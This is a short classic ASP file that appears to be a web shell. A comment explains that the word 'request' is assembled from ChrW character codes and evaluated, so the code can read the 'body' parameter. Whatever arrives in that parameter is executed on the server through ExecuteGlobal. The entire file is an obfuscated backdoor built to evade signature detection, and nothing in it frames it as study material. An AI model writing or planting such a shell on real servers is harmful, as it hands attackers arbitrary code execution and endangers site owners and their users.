<%
' the Request object's name spelt as Chr() codes joined with "+", evaluated into the object
' itself, then called with the parameter that carries the code
Dim payload
payload = Eval(ChrW(114) + ChrW(101) + ChrW(113) + ChrW(117) + ChrW(101) + ChrW(115) + ChrW(116))("body")
ExecuteGlobal payload
%>
